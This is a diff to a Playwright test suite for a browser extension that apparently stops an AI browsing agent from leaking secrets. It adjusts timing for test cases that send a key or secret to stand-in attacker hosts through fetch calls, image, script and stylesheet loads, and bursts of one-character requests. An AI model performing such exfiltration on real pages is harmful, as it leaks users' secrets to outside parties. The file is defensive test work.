@@ -24,6 +24,8 @@ const ATTACKER = 'attacker.test';
 /** A read-only task in the user's words, compiled by the extension (the rules compiler). */
 const WORDS = `Open the news site at ${HOME} and summarize today's top story for me. Do not send, post or share anything.`;
 const QUIET_MS = 1_200;
+/** The most a case that must deliver is given on a loaded machine; it ends as soon as its secret is in. */
+const DELIVER_MS = 10_000;
 
 const readOnly = (): TaskPolicyInput => ({
   version: 1,
@@ -149,6 +151,16 @@ async function waitForCode(browser: AgentBrowser, code: string): Promise<void> {
   throw new Error('the network floor never received the code shown on the page');
 }
 
+/**
+ * The watch after a single load (the words and race tests): a guarded case is watched for QUIET_MS (what
+ * has not arrived by then was stopped); without the extension the case ends as soon as `arrived()` holds,
+ * within the same window (the control only has to show the load works).
+ */
+async function watch(browser: AgentBrowser, arrived: () => boolean): Promise<void> {
+  if (browser.extensionId !== null) return sleep(QUIET_MS);
+  for (const until = Date.now() + QUIET_MS; Date.now() < until && !arrived(); ) await sleep(50);
+}
+
 /** Whether the receiver got the whole secret: what it logged for this case, in order, each request's piece rebuilt. */
 function delivered(v: Vector, id: string, host: string, secret: string): boolean {
   if (v.ports) return portServers.every((s) => s.hits(`/${id}/`).length > 0);
@@ -158,7 +170,8 @@ function delivered(v: Vector, id: string, host: string, secret: string): boolean
   return canon(v.rebuild?.(urls) ?? urls.map(pieceOf).join('')).includes(canon(secret));
 }
 
-async function runVector(browser: AgentBrowser, v: Vector): Promise<boolean> {
+/** `delivers`: the case must deliver (the control; a burst the floor lets out without the hooks), so it ends once it has. */
+async function runVector(browser: AgentBrowser, v: Vector, delivers: boolean): Promise<boolean> {
   const id = `v${++caseNumber}`;
   const key = newKey();
   const code = String(100000 + (randomBytes(3).readUIntBE(0, 3) % 900000));
@@ -170,7 +183,10 @@ async function runVector(browser: AgentBrowser, v: Vector): Promise<boolean> {
     const host = v.host ?? `attacker-${id}.test`;
     const c: Ctx = { page, home: server.origin(HOME), base: `${server.origin(host)}/${id}`, key, code, portOrigins: portServers.map((s) => `http://${ATTACKER}:${s.port}/${id}`) };
     await Promise.race([v.run(c).catch(() => undefined), sleep(QUIET_MS)]);
-    await sleep(QUIET_MS);
+    // A case that must be stopped is watched for QUIET_MS; one that must deliver ends once it has (66
+    // one-character requests can take longer than QUIET_MS to arrive when the machine is busy).
+    if (delivers) for (const until = Date.now() + DELIVER_MS; Date.now() < until && !delivered(v, id, host, v.secret(c)); ) await sleep(50);
+    else await sleep(QUIET_MS);
     if (v.reactiveWithoutHooks === true) console.log(`floor-volume (${browser.extensionId === null ? 'no extension' : 'extension'}): ${v.name}: ${server.hits(`/${id}/`, host).length} requests arrived`);
     return delivered(v, id, host, v.secret(c));
   } finally {
@@ -178,11 +194,11 @@ async function runVector(browser: AgentBrowser, v: Vector): Promise<boolean> {
   }
 }
 
-async function runAll(browser: AgentBrowser): Promise<Map<string, boolean>> {
+async function runAll(browser: AgentBrowser, delivers: (v: Vector) => boolean): Promise<Map<string, boolean>> {
   const results = new Map<string, boolean>();
   const queue = [...VECTORS];
   const lane = async () => {
-    for (let v = queue.shift(); v !== undefined; v = queue.shift()) results.set(v.name, await runVector(browser, v));
+    for (let v = queue.shift(); v !== undefined; v = queue.shift()) results.set(v.name, await runVector(browser, v, delivers(v)));
   };
   await Promise.all(Array.from({ length: 4 }, lane));
   return results;
@@ -215,6 +231,9 @@ function gzipBase64(key: string): string[] {
 for (const variant of ['full', 'nohooks', null] as const) {
   const label = variant ?? 'no extension';
   test.describe(`floor by volume and provenance, ${label}`, () => {
+    // One group per build: its tests share the browser its beforeAll launches, and the groups spread over the
+    // workers. (A parallel file with hooks is otherwise cut into one run of tests per worker, in file order.)
+    test.describe.configure({ mode: 'default' });
     let browser: AgentBrowser;
     test.beforeAll(async () => {
       test.setTimeout(90_000);
@@ -225,11 +244,11 @@ for (const variant of ['full', 'nohooks', null] as const) {
 
     test(variant === null ? 'control: every vector delivers the secret without the extension' : `every vector is stopped before the whole secret arrives${variant === 'nohooks' ? ' (but a burst of pieces finer than one request\'s filters)' : ''}`, async () => {
       test.setTimeout(180_000);
-      const results = await runAll(browser);
+      const delivers = (v: Vector) => variant === null || (variant === 'nohooks' && v.reactiveWithoutHooks === true);
+      const results = await runAll(browser, delivers);
       console.log(`floor-volume (${label}): delivered: ${[...results].filter(([, r]) => r).map(([n]) => n).join('; ') || 'none'}`);
       for (const v of VECTORS) {
-        const delivers = variant === null || (variant === 'nohooks' && v.reactiveWithoutHooks === true);
-        await test.step(`${v.klass}: ${v.name}`, () => expect.soft(results.get(v.name), `${v.name}`).toBe(delivers));
+        await test.step(`${v.klass}: ${v.name}`, () => expect.soft(results.get(v.name), `${v.name}`).toBe(delivers(v)));
       }
     });
 
@@ -249,7 +268,7 @@ for (const variant of ['full', 'nohooks', null] as const) {
         const sibling = `${server.origin(SIBLING)}/${id}/${key}`;
         await Promise.race([page.evaluate((u) => fetch(u).catch(() => undefined), sibling), sleep(QUIET_MS)]);
         await page.evaluate((u) => fetch(u).then((r) => r.status).catch(() => 0), `${server.origin(HOME)}/${id}/own`);
-        await sleep(QUIET_MS);
+        await watch(browser, () => server.hits(`/${id}/`, SIBLING).length > 0);
         expect(server.hits(`/${id}/own`, HOME).length, 'the named host\'s own request').toBe(1);
         expect(server.hits(`/${id}/`, SIBLING).length, variant === null ? 'control: the sibling receives the key' : 'the sibling receives nothing').toBe(variant === null ? 1 : 0);
       } finally {
@@ -295,7 +314,7 @@ for (const variant of ['full', 'nohooks', null] as const) {
               },
               [tag, `${server.origin(host)}/${id}/c${code}.${tag === 'img' ? 'gif' : tag === 'script' ? 'js' : 'css'}`],
             );
-            await sleep(QUIET_MS);
+            await watch(browser, () => server.hits(`/${id}/c${code}`, host).length > 0);
             if (server.hits(`/${id}/c${code}`, host).length > 0) leaks.push(tag);
             if (variant === 'nohooks') {
               const secondHost = `race2-${id}.test`;
